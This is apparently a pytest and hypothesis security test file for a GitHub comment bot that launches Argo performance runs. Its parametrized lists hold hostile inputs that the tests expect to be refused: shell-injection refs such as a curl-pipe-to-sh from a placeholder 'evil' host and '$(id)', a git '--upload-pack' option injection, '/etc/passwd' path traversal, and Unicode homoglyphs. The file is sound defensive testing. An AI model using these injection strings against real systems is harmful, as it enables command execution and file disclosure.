"""Hostile comments from someone allowed to run: refs, job names and options that try to reach
a shell, a git option or a path; very long and non-ASCII text. Each gets a polite reply (or
nothing, when there is no command) and starts no run; what does reach Argo is plain data.

That the workflow templates take parameters only as environment values or argv items, and that
their steps refuse hostile values again, is tested in tests/pipeline/test_injection.py.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.runs.refs import RefError, check_ref
from tests.bot.stack import Stack
from tests.security.conftest import FEW, Watch

SAFE_VALUE = re.compile(r"[A-Za-z0-9._/+@=-]*")  # what a parameter from a comment may contain
ACCEPTED = "letters, digits and `._/+@-`"
GITHUB_COMMENT_LIMIT = 65536

HOSTILE_REFS = [
    "main;curl${IFS}evil|sh",
    "$(id)",
    "`id`",
    "main&&reboot",
    "a|b",
    "main>x",
    "x'y",
    'x"y',
    "--upload-pack=touch${IFS}pwned",
    "-c",
    "--exec=sh",
    "../../etc/passwd",
    "refs/heads/../x",
    "/etc/passwd",
    "main@{1}",
    "x.lock",
    ".hidden",
    "mаin",  # the second letter is Cyrillic
    "main\u200b",
    "a" * 201,
]
HOSTILE_JOBS = ["../x", "..", "/etc/passwd", "api;id", "$(id)", "api/../cli", "-rf", "%2e%2e"]


def refused_without_a_run(watch: Watch) -> list[str]:
    """Nothing reached Argo; the ref was never looked up at GitHub; the replies."""
    assert watch.argo() == []
    assert [r.path for r in watch.github() if "/commits/" in r.path] == []
    return watch.replies()


@pytest.mark.parametrize("ref", HOSTILE_REFS)
def test_a_hostile_ref_is_refused_before_github_or_argo_hear_of_it(stack: Stack, ref: str) -> None:
    watch = Watch(stack)
    response = stack.comment(f"/run-perf {ref}")
    assert (response.status_code, response.json["outcome"]) == (200, "bad-arguments")
    [reply] = refused_without_a_run(watch)
    assert ACCEPTED in reply


@pytest.mark.parametrize("job", HOSTILE_JOBS)
def test_a_path_like_or_hostile_job_name_is_an_unknown_job(stack: Stack, job: str) -> None:
    watch = Watch(stack)
    response = stack.comment(f"/perf-bot run {job} main")
    assert response.json["outcome"] == "unknown-job"
    [reply] = refused_without_a_run(watch)
    assert reply.endswith("Jobs: `api`, `cli`.")


@pytest.mark.parametrize(
    "options",
    ["rounds=$(id)", "rounds=1;id", "profile=full|sh", "profile=../x", "--rounds=5", "rounds==5"],
)
def test_a_hostile_option_is_refused_with_the_jobs_options(stack: Stack, options: str) -> None:
    watch = Watch(stack)
    response = stack.comment(f"/run-perf main {options}")
    assert response.json["outcome"] == "bad-arguments"
    [reply] = refused_without_a_run(watch)
    assert "Options of **api**" in reply


def test_echoed_text_mentions_nobody_and_cannot_fake_the_sticky_marker(stack: Stack) -> None:
    watch = Watch(stack)
    stack.comment("/perf-bot run @octo-org/everyone")
    stack.comment("/perf-bot run <!--perfbot:job=api-->")
    replies = watch.replies()
    assert len(replies) == 2
    assert "@octo-org" not in replies[0]
    assert "<!--" not in replies[1]


def test_a_very_long_comment_is_answered_with_a_short_reply(stack: Stack) -> None:
    watch = Watch(stack)
    response = stack.comment("/perf-bot frobnicate " + "x " * 200_000)
    assert response.json["outcome"] == "unknown-command"
    [reply] = watch.replies()
    assert len(reply) < GITHUB_COMMENT_LIMIT
    assert watch.argo() == []


def test_a_long_comment_without_a_command_costs_nothing(stack: Stack) -> None:
    watch = Watch(stack)
    response = stack.comment("Looks good to me. " * 50_000)
    assert response.json["outcome"] == "no-command"
    assert (watch.github(), watch.argo()) == ([], [])


@FEW
@given(words=st.text(max_size=300))
def test_whatever_follows_run_perf_only_plain_data_reaches_argo(stack: Stack, words: str) -> None:
    """Non-ASCII, control characters, quotes: a reply, or a run whose parameters from the
    comment stay within the accepted characters."""
    watch = Watch(stack)
    response = stack.comment(f"/run-perf {words}")

    assert response.status_code == 200
    assert "Traceback" not in response.get_data(as_text=True)
    for reply in watch.replies():
        assert len(reply) < GITHUB_COMMENT_LIMIT
    for submission in watch.submissions():
        parameters = dict(p.split("=", 1) for p in submission.body["submitOptions"]["parameters"])
        for name in ("base-ref", "rounds", "profile"):
            assert SAFE_VALUE.fullmatch(parameters.get(name, "")), (name, parameters[name])


@FEW
@given(body=st.text(max_size=500))
def test_any_comment_text_gets_an_answer_never_an_error(stack: Stack, body: str) -> None:
    response = stack.comment(body)
    assert response.status_code == 200
    assert response.json["ok"] is True


@given(ref=st.text(max_size=250))
def test_every_ref_the_gate_lets_through_is_plain_git_ref_text(ref: str) -> None:
    try:
        accepted = check_ref(ref)
    except RefError:
        return
    assert re.fullmatch(r"[A-Za-z0-9._/+@-]{1,200}", accepted)
    assert not accepted.startswith(("-", "/", "."))
    assert ".." not in accepted


@pytest.mark.parametrize("ref", ["main\n", "0\n", "v1.2.0\n", "release/1.2\n"])
def test_a_ref_with_a_trailing_newline_is_refused(ref: str) -> None:
    """`$` in a `re.match` pattern matches before a final newline: the gate must not."""
    with pytest.raises(RefError):
        check_ref(ref)
